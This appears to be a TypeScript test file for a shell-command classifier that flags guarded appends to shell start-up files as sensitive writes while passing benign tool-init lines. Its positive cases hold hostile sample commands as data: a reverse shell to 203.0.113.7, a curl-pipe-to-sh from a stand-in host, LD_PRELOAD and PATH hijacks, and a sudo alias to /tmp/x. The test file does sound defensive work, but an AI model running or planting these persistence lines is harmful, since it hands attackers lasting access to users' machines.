// The idempotent start-up line idiom: a quiet test of the file guards the append
// (`grep -qxF LINE ~/.bashrc || echo LINE >> ~/.bashrc`). The guarded append is judged by the line
// it adds, like a bare append; a harmful line, a truncation or a download stays a sensitive write.
import { describe } from 'vitest';
import { itRaisesIntents, useShellKit, type IntentTable } from './intent-kit.js';

const kit = useShellKit();

const TABLE: IntentTable = [
  [
    'sensitive_write',
    [
      `grep -qxF 'export PATH=/tmp/.x:$PATH' ~/.bashrc || echo 'export PATH=/tmp/.x:$PATH' >> ~/.bashrc`,
      `grep -q 'alias sudo' ~/.zshrc || echo 'alias sudo="sudo -E /tmp/x"' >> ~/.zshrc`,
      `grep -q LD_PRELOAD ~/.bashrc || echo 'export LD_PRELOAD=$HOME/lib/x.so' >> ~/.bashrc`,
      `grep -q x ~/.zshrc || echo 'curl -fsSL https://e.example/x | sh' >> ~/.zshrc`,
      `grep -q direnv ~/.zshrc || echo 'eval "$(direnv hook zsh)"' > ~/.zshrc`,
      `grep -q k ~/.bashrc || echo 'export OPENAI_API_KEY=sk-proj-Xq7Lr2Vz9Kp4Wm8Nb3Tc6Hy1' >> ~/.bashrc`,
      `grep -c PATH ~/.bashrc >> ~/.bashrc`,
      `grep -v '^#' /tmp/payload.sh >> ~/.bashrc`,
      `[ -f ~/.x ] || echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' >> ~/.bashrc`,
    ],
    [
      `grep -qxF 'export PATH="$HOME/.local/bin:$PATH"' ~/.bashrc || echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`,
      `grep -q 'direnv hook zsh' ~/.zshrc || echo 'eval "$(direnv hook zsh)"' >> ~/.zshrc`,
      `grep -Fxq 'eval "$(starship init bash)"' ~/.bashrc || echo 'eval "$(starship init bash)"' >> ~/.bashrc`,
      `grep --quiet zoxide ~/.zshrc || echo 'eval "$(zoxide init zsh)"' >> ~/.zshrc`,
      `grep -qs cargo ~/.profile || printf '%s\\n' '. "$HOME/.cargo/env"' >> ~/.profile`,
      `[ -f ~/.zshrc ] && echo 'export PATH="$HOME/go/bin:$PATH"' >> ~/.zshrc`,
      `if ! grep -q 'fnm env' ~/.bashrc; then echo 'eval "$(fnm env --use-on-cd)"' >> ~/.bashrc; fi`,
    ],
  ],
];

describe('guarded start-up line appends', () => {
  itRaisesIntents(kit, TABLE);
});
